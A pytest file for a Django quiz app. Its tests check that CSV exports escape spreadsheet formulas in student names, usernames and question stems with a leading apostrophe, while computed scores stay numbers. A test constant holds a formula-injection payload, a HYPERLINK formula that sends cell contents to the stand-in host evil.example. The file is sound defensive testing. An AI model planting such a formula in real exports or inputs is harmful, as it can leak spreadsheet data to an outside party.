"""CSV downloads: text people typed never runs as a spreadsheet formula (OWASP's leading
apostrophe), while the numbers the app computes stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from quiz import services
from quiz.spreadsheets import CsvWriter
from tests.conftest import classroom_make, client_for
from tests.factories import EnrollmentFactory, QuestionFactory, QuizFactory, StudentFactory
from tests.test_teacher import finish

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_cell_starting_like_a_formula_gets_an_apostrophe(start):
    stream = io.StringIO()
    CsvWriter(stream).writerow([f"{start}1+1", "plain", 3, Decimal("-0.25")])
    assert next(csv.reader(io.StringIO(stream.getvalue()))) == [
        f"'{start}1+1",
        "plain",
        "3",
        "-0.25",
    ]


def test_results_csv_neutralises_names_from_the_names_box_and_chosen_usernames():
    room = classroom_make(students=0, questions=2)
    [(listed, _)] = services.students_create(school_class=room.school_class, names=[FORMULA])
    chosen = EnrollmentFactory(
        school_class=room.school_class, student=StudentFactory(username="@SUM")
    ).student
    finish(room, listed, [True, False])
    finish(room, chosen, [True, True])
    rows = csv_rows(
        client_for(room.teacher).get(reverse("assignment-results-csv", args=[room.assignment.pk]))
    )
    names = {row[0]: row[1] for row in rows[1:]}
    assert names[listed.username].startswith("'=HYPERLINK(")
    assert "'@SUM" in names
    scores = {row[0]: row[3] for row in rows[1:]}
    assert scores["'@SUM"] == "2"  # the score is a number, not text


def test_item_analysis_csv_neutralises_question_stems():
    room = classroom_make(students=1, questions=0)
    question = QuestionFactory(article=room.quiz.article, stem="-1 plus 2 is what?")
    room.quiz.quizquestion_set.create(question=question, position=0)
    finish(room, room.students[0], [True])
    rows = csv_rows(
        client_for(room.teacher).get(reverse("assignment-items-csv", args=[room.assignment.pk]))
    )
    assert rows[1][:4] == ["Q1", "'-1 plus 2 is what?", "1", "1.00"]


def test_a_stem_that_merely_contains_an_equals_sign_is_left_alone():
    room = classroom_make(students=1, questions=0)
    quiz = QuizFactory(
        created_by=room.teacher,
        questions=[QuestionFactory(stem="Why does 2 + 2 = 4 matter?")],
    )
    room.assignment.quiz = quiz
    room.assignment.save()
    rows = csv_rows(
        client_for(room.teacher).get(reverse("assignment-items-csv", args=[room.assignment.pk]))
    )
    assert rows[1][1] == "Why does 2 + 2 = 4 matter?"
